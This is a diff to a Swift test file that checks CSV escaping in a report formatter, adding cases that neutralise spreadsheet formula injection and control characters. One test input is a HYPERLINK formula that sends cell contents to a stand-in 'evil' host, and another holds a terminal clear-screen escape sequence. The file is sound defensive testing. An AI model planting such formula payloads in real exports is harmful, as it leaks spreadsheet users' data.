@@ -30,8 +30,11 @@ import Testing
 
     @Test(arguments: [
         ("plain", "plain"), ("a,b", "\"a,b\""), ("say \"hi\"", "\"say \"\"hi\"\"\""), ("two\nlines", "\"two\nlines\""),
-        ("cr\r", "\"cr\r\""), (" padded", "\" padded\""), ("", ""),
+        ("cr\r", "cr\\u{D}"), (" padded", "\" padded\""), ("", ""),
         ("esc\u{1B}[2J", "esc\\u{1B}[2J"), ("bell\u{07},x", "\"bell\\u{7},x\""),
+        // What a spreadsheet would run as a formula starts with a quote mark.
+        ("=HYPERLINK(\"https://evil/?\"&A1,\"fix\")", "\"'=HYPERLINK(\"\"https://evil/?\"\"&A1,\"\"fix\"\")\""),
+        ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("SHA256:a=", "SHA256:a="),
     ])
     func csv(_ raw: String, _ escaped: String) {
         #expect(raw.csvField == escaped)
@@ -74,10 +77,12 @@ import Testing
         let csv = ReportFormat.csv.render(try Self.nastyReport())
         let records = Self.parseCSV(csv)
         #expect(records.count == 3)
-        // Every byte round-trips except control characters other than CR, LF
+        // Every byte round-trips except control characters other than LF
         // and tab, which are shown as codes (CSV is printed to terminals too).
         #expect(records[2] == [Self.host, "o'brien", "unexpected_key", "2023-11-14T22:13:20Z", "1", "1",
-                               "2023-11-14T22:13:20Z", Self.detail.replacingOccurrences(of: "\u{1B}", with: "\\u{1B}"), "SHA256:a+b/c"])
+                               "2023-11-14T22:13:20Z",
+                               Self.detail.replacingOccurrences(of: "\u{1B}", with: "\\u{1B}").replacingOccurrences(of: "\r", with: "\\u{D}"),
+                               "SHA256:a+b/c"])
         #expect(!csv.contains("\u{1B}"))
         #expect(records[1][0] == "<b>db</b>" && records[1][7] == "refused: \"<&>\"")
     }
